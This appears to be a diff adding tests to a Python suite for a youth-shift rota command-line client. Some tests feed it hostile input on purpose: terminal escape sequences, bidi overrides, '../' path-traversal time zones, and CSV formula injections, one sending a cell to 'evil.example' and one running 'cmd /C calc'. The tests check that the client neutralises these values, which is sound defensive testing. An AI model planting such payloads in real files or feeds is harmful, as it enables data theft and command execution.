@@ -17,8 +17,10 @@ import shutil
 import stat
 import subprocess
 import tempfile
+import threading
 import unittest
 import zoneinfo
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 
 from harness import RotadTestCase, base_instance
 
@@ -168,6 +170,26 @@ class ClientTest(ClientCase):
         r = self.fails(EXIT_USAGE, "homes", "list", server=False)
         self.assertIn("rota login", r.stderr)
 
+    def test_an_api_url_as_the_server_says_what_to_use(self):
+        for url in (self.server + "/api/v1", self.server + "/api/v1/",
+                    self.server + "/api"):
+            r = self.fails(EXIT_USAGE, "homes", "list",
+                           env=self.env(ROTA_SERVER=url))
+            self.assertIn("give the server's base URL, '%s'" % self.server,
+                          r.stderr)
+            self.assertEqual(r.stderr.count("\n"), 1, r.stderr)
+            # login refuses it before asking for the token.
+            r = self.fails(EXIT_USAGE, "login", url, server=False,
+                           input=self.api_token + "\n")
+            self.assertIn("'%s'" % self.server, r.stderr)
+            self.assertNotIn("API token", r.stderr)
+            self.assertFalse(os.path.exists(
+                os.path.join(self.config_home, "rota", "config")))
+        # A server under a path of its own is fine.
+        r = self.fails(EXIT_SERVER, "homes", "list",
+                       env=self.env(ROTA_SERVER=self.server + "/rota"))
+        self.assertNotIn("base URL", r.stderr)
+
     # ---- homes, youths, slots ----
 
     def test_homes_crud(self):
@@ -206,6 +228,27 @@ class ClientTest(ClientCase):
         # A home with slots cannot go.
         r = self.fails(EXIT_SERVER, "homes", "rm", "solheim")
         self.assertIn("conflict", r.stderr)
+
+    def test_add_says_where_a_made_id_came_from(self):
+        r = self.ok_rota("homes", "add", "--name", "Kampen omsorg+")
+        self.assertEqual(r.stdout, "kampen-omsorg\n")   # for scripts
+        self.assertEqual(r.stderr, "rota: the new home's id is "
+                         "'kampen-omsorg' (made from its name; --id "
+                         "chooses one)\n")
+        r = self.ok_rota("youths", "add", "--name", "Kari Nordmann",
+                         "--birth-date", "2010-02-03", "--school",
+                         "compulsory")
+        self.assertIn("id is '%s'" % r.stdout.strip(), r.stderr)
+        r = self.ok_rota("slots", "add", "--home", "lia", "--start",
+                         "2027-01-12T16:00", "--end", "2027-01-12T18:00")
+        self.assertIn("id is '%s' (made from its home and start"
+                      % r.stdout.strip(), r.stderr)
+        # A chosen id needs no word; JSON carries the id itself.
+        r = self.ok_rota("homes", "add", "--id", "h9", "--name", "Ni")
+        self.assertEqual((r.stdout, r.stderr), ("h9\n", ""))
+        r = self.ok_rota("homes", "add", "--name", "Tiende", "--json")
+        self.assertEqual(json.loads(r.stdout)["id"], "tiende")
+        self.assertEqual(r.stderr, "")
 
     def test_youths_crud_with_list_flags(self):
         r = self.ok_rota("youths", "add", "--id", "kari", "--name",
@@ -285,6 +328,93 @@ class ClientTest(ClientCase):
         self.assertIn("no assignment has id", r.stderr)
         r = self.fails(EXIT_SERVER, "assign", "nosuchslot", "ola")
         self.assertIn("no slot has id 'nosuchslot'", r.stderr)
+
+    def test_assignments_offer_only_what_exists_and_move(self):
+        h = self.ok_rota("assignments", "--help", server=False).stdout
+        self.assertTrue(h.startswith(
+            "usage: rota assignments list|show|move ...\n"), h)
+        for gone in ("add", "edit", "rm "):
+            self.assertNotIn("assignments " + gone, h)
+        self.assertIn("list, show and move assignments",
+                      self.ok_rota("--help", server=False).stdout)
+        for gone in ("add", "edit", "rm"):
+            self.fails(EXIT_USAGE, "assignments", gone, "x")
+        aid = self.ok_rota("assign", "s3", "ola").stdout.strip()
+        self.ok("PATCH", "/api/v1/assignments/" + aid, {"pinned": False})
+        # Another slot: pinned, so the solver leaves it there.
+        r = self.ok_rota("assignments", "move", aid, "--slot", "s2")
+        self.assertEqual((r.stdout, r.stderr), ("", ""))
+        a = json.loads(self.ok_rota("assignments", "show", aid,
+                                    "--json").stdout)
+        self.assertEqual((a["slot"], a["youth"], a["pinned"]),
+                         ("s2", "ola", True))
+        # Another youth, as JSON.
+        a = json.loads(self.ok_rota("assignments", "move", aid, "--youth",
+                                    "ida", "--json").stdout)
+        self.assertEqual((a["id"], a["slot"], a["youth"]),
+                         (aid, "s2", "ida"))
+        self.fails(EXIT_USAGE, "assignments", "move", aid)
+        self.fails(EXIT_USAGE, "assignments", "move", "--slot", "s1")
+        # Onto a slot where that youth is already: the server's conflict.
+        r = self.fails(EXIT_SERVER, "assignments", "move", aid, "--slot",
+                       "s1")
+        self.assertIn("409", r.stderr)
+        # A move that breaks a rule is refused, then forced.
+        self.ok_rota("slots", "add", "--id", "long", "--home", "lia",
+                     "--start", "2027-01-05T15:30", "--end",
+                     "2027-01-05T18:01")
+        r = self.fails(EXIT_REFUSED, "assignments", "move", aid, "--slot",
+                       "long")
+        self.assertIn("NO-AML-11-2-2a-day", r.stderr)
+        r = self.ok_rota("assignments", "move", aid, "--slot", "long",
+                         "--force")
+        self.assertIn("forced", r.stderr)
+        self.assertEqual(json.loads(self.ok_rota(
+            "assignments", "show", aid, "--json").stdout)["slot"], "long")
+        r = self.fails(EXIT_SERVER, "assignments", "move", "nosuch",
+                       "--slot", "s1")
+        self.assertIn("no assignment has id", r.stderr)
+
+    def test_youths_rm_purge(self):
+        # A youth with assignments: refused, with the way out named.
+        r = self.fails(EXIT_SERVER, "youths", "rm", "ida")
+        self.assertIn("409", r.stderr)
+        self.assertIn("'rota youths rm ida --purge'", r.stderr)
+        r = self.ok_rota("youths", "rm", "ida", "--purge")
+        self.assertEqual((r.stdout, r.stderr), ("", ""))
+        self.assertIn("DELETE /api/v1/youths/:id 204",
+                      self.daemon.read_log())
+        r = self.fails(EXIT_SERVER, "youths", "show", "ida")
+        self.assertIn("no youth has id 'ida'", r.stderr)
+        self.assertEqual(json.loads(self.ok_rota(
+            "assignments", "list", "--youth", "ida", "--json").stdout), [])
+        # Not found: no hint.
+        r = self.fails(EXIT_SERVER, "youths", "rm", "ida")
+        self.assertNotIn("--purge", r.stderr)
+        # Only youths can be purged.
+        self.fails(EXIT_USAGE, "homes", "rm", "lia", "--purge")
+        self.fails(EXIT_USAGE, "youths", "list", "--purge")
+
+    def test_bash_completion_offers_what_exists(self):
+        script = os.path.join(os.path.dirname(os.path.abspath(__file__)),
+                              "..", "..", "client", "rota.bash-completion")
+
+        def complete(*words):
+            cmd = ('source "$1"; shift; COMP_WORDS=("$@"); '
+                   'COMP_CWORD=$(($# - 1)); _rota; '
+                   'printf "%s\\n" "${COMPREPLY[@]}"')
+            r = subprocess.run(["bash", "--norc", "-c", cmd, "bash", script,
+                                "rota"] + list(words),
+                               capture_output=True, text=True, timeout=60)
+            self.assertEqual(r.returncode, 0, r.stderr)
+            return set(r.stdout.split())
+        self.assertEqual(complete("assignments", ""),
+                         {"list", "show", "move", "--help"})
+        self.assertIn("--slot", complete("assignments", "move", "a1", "--"))
+        self.assertIn("--purge", complete("youths", "rm", "ida", "--"))
+        self.assertNotIn("--purge", complete("homes", "rm", "lia", "--"))
+        self.assertEqual(complete("homes", ""),
+                         {"list", "show", "add", "edit", "rm", "--help"})
 
     def test_refused_change_lists_the_violations_and_exits_3(self):
         self.ok_rota("slots", "add", "--id", "long", "--home", "lia",
@@ -780,6 +910,308 @@ class ClientTest(ClientCase):
         self.assertIn("Bingo", r.stdout)
         self.assertEqual(self.log_count("GET /feeds/:token 200"),
                          before200 + 2)
+
+
+class FakeServer:
+    """A hostile server on a free loopback port: answers each path (the
+    query left out) from `routes`, {path: (status, content type, body)};
+    records the requests as (method, path with query, body)."""
+
+    def __init__(self):
+        self.routes = {}
+        self.requests = []
+        fake = self
+
+        class Handler(BaseHTTPRequestHandler):
+            def answer(self):
+                n = int(self.headers.get("Content-Length") or 0)
+                body = self.rfile.read(n) if n else b""
+                fake.requests.append((self.command, self.path, body))
+                route = fake.routes.get((self.command,
+                                         self.path.split("?")[0]))
+                if route is None:
+                    route = fake.routes.get(self.path.split("?")[0])
+                status, ctype, data = route or (404, "text/plain", b"no")
+                if isinstance(data, (dict, list)):
+                    data = json.dumps(data).encode()
+                elif isinstance(data, str):
+                    data = data.encode("utf-8")
+                self.send_response(status)
+                self.send_header("Content-Type", ctype)
+                self.send_header("Content-Length", str(len(data)))
+                self.end_headers()
+                self.wfile.write(data)
+
+            do_GET = do_POST = do_PATCH = do_DELETE = do_PUT = answer
+
+            def log_message(self, *args):
+                pass
+
+        self.httpd = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+        self.thread = threading.Thread(target=self.httpd.serve_forever,
+                                       daemon=True)
+        self.thread.start()
+
+    @property
+    def url(self):
+        return "http://127.0.0.1:%d" % self.httpd.server_address[1]
+
+    def close(self):
+        self.httpd.shutdown()
+        self.httpd.server_close()
+
+
+def ics_text(s):
+    """iCalendar TEXT escaping (RFC 5545 3.3.11): a line break is \\n."""
+    return (s.replace("\\", "\\\\").replace(";", "\\;").replace(",", "\\,")
+            .replace("\n", "\\n"))
+
+
+def hostile_feed(summary, location="Gata 1", description=None,
+                 tzid="Europe/Oslo", day="20300107"):
+    lines = ["BEGIN:VCALENDAR", "VERSION:2.0", "PRODID:-//evil//x//EN",
+             "BEGIN:VEVENT", "UID:evil-1@x", "DTSTAMP:20270101T000000Z",
+             "DTSTART;TZID=%s:%sT160000" % (tzid, day),
+             "DTEND;TZID=%s:%sT180000" % (tzid, day),
+             "SUMMARY:" + ics_text(summary),
+             "LOCATION:" + ics_text(location)]
+    if description is not None:
+        lines.append("DESCRIPTION:" + ics_text(description))
+    lines += ["END:VEVENT", "END:VCALENDAR", ""]
+    return "\r\n".join(lines)
+
+
+# What must never reach a terminal from others' text: C0 controls other
+# than the line ends rota itself writes, DEL, C1 (as UTF-8 and as lone
+# bytes), bidi embeddings, overrides and isolates.
+UNSAFE = re.compile("[\x00-\x09\x0b-\x1f\x7f\u0080-\u009f\u202a-\u202e"
+                    "\u2066-\u2069\u2028\u2029]")
+
+EVIL = ("Evil\x1b]0;pwned\x07 \x1b[2J\u009b31m\u009d0;x\u009c"
+        "\u202eemoh\u202c\u2066i\u2069")
+
+
+def json_strings(j):
+    """Every string in a JSON value, keys included."""
+    if isinstance(j, str):
+        yield j
+    elif isinstance(j, list):
+        for x in j:
+            yield from json_strings(x)
+    elif isinstance(j, dict):
+        for k, v in j.items():
+            yield k
+            yield from json_strings(v)
+
+
+class HostileTextTest(ClientCase):
+    """Feeds and servers that send escape sequences, bidi overrides, line
+    breaks and file paths as time zones (issue 18, items 1 and 8)."""
+
+    def setUp(self):
+        super().setUp()
+        self.fake = FakeServer()
+
+    def tearDown(self):
+        self.fake.close()
+        super().tearDown()
+
+    def feed(self, text):
+        self.fake.routes["/feed.ics"] = (200, "text/calendar", text)
+        return self.fake.url + "/feed.ics"
+
+    def assertSafe(self, text):
+        self.assertIsNone(UNSAFE.search(text), repr(text))
+
+    def run_bounded(self, args, env=None):
+        """Runs rota with a standard input that stays open (reading it
+        would block); a hang (the bug) is killed after a generous
+        deadline and reported as a failure."""
+        rfd, wfd = os.pipe()
+        try:
+            p = subprocess.Popen([ROTA] + args, env=env or self.env(False),
+                                 stdin=rfd, stdout=subprocess.PIPE,
+                                 stderr=subprocess.PIPE, text=True)
+            os.close(rfd)
+            rfd = None
+            try:
+                out, err = p.communicate(timeout=30)
+            except subprocess.TimeoutExpired:
+                p.kill()
+                p.communicate()
+                self.fail("rota %s hung" % " ".join(args))
+        finally:
+            if rfd is not None:
+                os.close(rfd)
+            os.close(wfd)
+        return p.returncode, out, err
+
+    def test_feed_text_is_shown_not_obeyed(self):
+        url = self.feed(hostile_feed(
+            "Besøk – %s: Quiz\nMon 2030-01-08  10:00-12:00  Fake  row  "
+            "confirmed" % EVIL,
+            location="Gata 1\nMon 2030-01-09  fake",
+            description="Aktivitet: Quiz\nMon 2030-01-08  10:00-12:00  "
+            "Fake  row  confirmed"))
+        r = self.ok_rota("shifts", url, "--from", "2030-01-01", "--to",
+                         "2030-01-31", server=False)
+        self.assertSafe(r.stdout)
+        lines = r.stdout.splitlines()
+        self.assertEqual(len(lines), 2, r.stdout)        # no fake row
+        self.assertIn("⏎", lines[1])
+        self.assertIn("\\x1b]0;pwned\\x07", lines[1])     # visible
+        self.assertIn("\\u009b31m", lines[1])
+        self.assertIn("\\u202eemoh", lines[1])
+        self.assertTrue(lines[1].endswith("confirmed"), lines[1])
+        # The columns still line up with the header.
+        self.assertEqual(lines[1].index("16:00"), lines[0].index("TIME"))
+        r = self.ok_rota("next", url, server=False)
+        self.assertSafe(r.stdout)
+        self.assertEqual(r.stdout.count("\n"), 1, r.stdout)
+        # JSON keeps the text as it was, escaped so no terminal obeys it.
+        r = self.ok_rota("shifts", url, "--from", "2030-01-01", "--to",
+                         "2030-01-31", "--json", server=False)
+        self.assertSafe(r.stdout)
+        j = json.loads(r.stdout)
+        self.assertIn(EVIL, j[0]["home"])
+        self.assertEqual(j[0]["location"], "Gata 1\nMon 2030-01-09  fake")
+        r = self.ok_rota("next", url, "--json", server=False)
+        self.assertSafe(r.stdout)
+        self.assertIn(EVIL, json.loads(r.stdout)["home"])
+
+    def test_feed_tzid_that_is_a_path_never_opens_it(self):
+        fifo = os.path.join(self.home, "zone.fifo")
+        os.mkfifo(fifo)
+        up = "../" * 12
+        for tzid in (up + fifo.lstrip("/"),
+                     "/freeassociation.sourceforge.net/" + up
+                     + fifo.lstrip("/"),
+                     up + "proc/self/fd/0"):
+            with self.subTest(tzid=tzid):
+                shutil.rmtree(self.cache_home, ignore_errors=True)
+                url = self.feed(hostile_feed("Besøk – Solheim: Quiz",
+                                             tzid=tzid))
+                rc, out, err = self.run_bounded(
+                    ["shifts", url, "--from", "2030-01-01", "--to",
+                     "2030-01-31"])
+                self.assertEqual(rc, EXIT_OK, err)
+                self.assertIn("is not a known IANA zone", err)
+                self.assertEqual(err.count("\n"), 1, err)  # once per name
+                # Read as a local time: 16:00 where the reader is.
+                self.assertIn("16:00-18:00", out)
+        # A canonical name still works, with no warning.
+        url = self.feed(hostile_feed("Besøk – Solheim: Quiz",
+                                     tzid="America/New_York"))
+        r = self.ok_rota("shifts", url, "--from", "2030-01-01", "--to",
+                         "2030-01-31", "--json", server=False)
+        self.assertEqual(r.stderr, "")
+        self.assertEqual(json.loads(r.stdout)[0]["start"],
+                         "2030-01-07T22:00:00+01:00")
+        for bad in ("localtime", "posixrules", "right/UTC", "Factory",
+                    "Europe/../Europe/Oslo"):
+            url = self.feed(hostile_feed("Besøk – Solheim: Quiz", tzid=bad))
+            r = self.ok_rota("shifts", url, "--from", "2030-01-01", "--to",
+                             "2030-01-31", server=False)
+            self.assertIn("is not a known IANA zone", r.stderr, bad)
+
+    def fake_env(self):
+        return self.env(False, ROTA_SERVER=self.fake.url,
+                        ROTA_TOKEN="rota_whatever")
+
+    def test_server_text_is_shown_not_obeyed(self):
+        evil_list = {"homes": [{"id": "h1" + EVIL, "name": EVIL,
+                                "address": "Gata 1\nh2  Fake  row"}]}
+        self.fake.routes.update({
+            "/api/v1/homes": (200, "application/json", evil_list),
+            "/api/v1/homes/h1": (200, "application/json",
+                                 {"id": "h1", "name": EVIL,
+                                  "k\x1b[2J": "v\nfake  line"}),
+            "/api/v1/youths": (200, "application/json",
+                               {"youths": [{"id": "y1", "name": EVIL,
+                                            "skills": [EVIL]}]}),
+            "/api/v1/settings": (200, "application/json",
+                                 {"jurisdiction": "NO" + EVIL,
+                                  "timezone": "Europe/Oslo",
+                                  "options": {"x\x1b[2J": EVIL}}),
+            "/api/v1/violations": (200, "application/json",
+                                   {"violations": [{
+                                       "rule": "R" + EVIL, "youth": EVIL,
+                                       "day": "2027-01-04\n  - fake",
+                                       "slots": [EVIL],
+                                       "message": "m\x1b[2J" + EVIL,
+                                       "reference": EVIL}]}),
+            ("POST", "/api/v1/assignments"): (
+                400, "application/json",
+                {"error": {"status": 400, "code": "invalid_field" + EVIL,
+                           "message": "bad " + EVIL + "\nrota: fake",
+                           "field": "f" + EVIL}}),
+        })
+        env = self.fake_env()
+        for args in (["homes", "list"], ["homes", "show", "h1"],
+                     ["youths", "list"], ["settings"], ["violations"]):
+            with self.subTest(args=args):
+                r = self.ok_rota(*args, env=env)
+                self.assertSafe(r.stdout)
+                self.assertSafe(r.stderr)
+                self.assertIn("\\x1b]0;pwned\\x07", r.stdout)
+                if args[-1] == "list":
+                    self.assertEqual(len(r.stdout.splitlines()), 2,
+                                     r.stdout)
+                # JSON: the same text, escaped.
+                j = self.ok_rota(*args, "--json", env=env)
+                self.assertSafe(j.stdout)
+                self.assertTrue(any(EVIL in t for t in
+                                    json_strings(json.loads(j.stdout))),
+                                j.stdout)
+        r = self.fails(EXIT_SERVER, "assign", "s1", "y1", env=env)
+        self.assertSafe(r.stderr)
+        self.assertEqual(r.stderr.count("\n"), 1, r.stderr)
+        self.assertIn("\\x1b]0;pwned\\x07", r.stderr)
+
+    def test_server_time_zone_that_is_a_path_never_opens_it(self):
+        fifo = os.path.join(self.home, "zone.fifo")
+        os.mkfifo(fifo)
+        tz = "../" * 12 + fifo.lstrip("/")
+        self.fake.routes.update({
+            "/api/v1/settings": (200, "application/json",
+                                 {"timezone": tz}),
+            "/api/v1/assignments": (200, "application/json",
+                                    {"assignments": [{"id": "a1",
+                                                      "slot": "s1",
+                                                      "youth": "y1"}]}),
+            "/api/v1/slots": (200, "application/json",
+                              {"slots": [{"id": "s1",
+                                          "start": "2027-01-04T16:00",
+                                          "end": "2027-01-04T18:00"}]}),
+            "/api/v1/youths": (200, "application/json",
+                               {"youths": [{"id": "y1", "name": "Y"}]}),
+        })
+        rc, out, err = self.run_bounded(["hours", "--month", "2027-01"],
+                                        env=self.fake_env())
+        self.assertEqual(rc, EXIT_SERVER, err)
+        self.assertIn("cannot compute its length in time zone", err)
+
+    def test_hours_csv_cells_are_never_formulas(self):
+        names = {"ida": "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
+                 "ola": "@SUM(1+1)*cmd|' /C calc'!A0"}
+        for ident, name in names.items():
+            self.ok_rota("youths", "edit", ident, "--name", name)
+        self.ok_rota("assign", "s3", "ola")
+        r = self.ok_rota("hours", "--month", "2027-01", "--csv")
+        rows = list(csv.reader(io.StringIO(r.stdout)))
+        self.assertEqual(rows[0], ["youth", "name", "shifts", "minutes",
+                                   "hours"])
+        got = {row[0]: row[1] for row in rows[1:]}
+        self.assertEqual(got, {k: "'" + v for k, v in names.items()})
+        for line in r.stdout.splitlines()[1:]:
+            self.assertTrue(line.startswith('"'), line)   # every cell quoted
+            self.assertNotRegex(line, r'(^|,)[=+\-@]')
+        # The table and JSON show the names as they are.
+        self.assertIn(names["ida"], self.ok_rota("hours", "--month",
+                                                 "2027-01").stdout)
+        j = json.loads(self.ok_rota("hours", "--month", "2027-01",
+                                    "--json").stdout)
+        self.assertEqual({x["youth"]: x["name"] for x in j}, names)
 
 
 class TerminalTest(ClientCase):
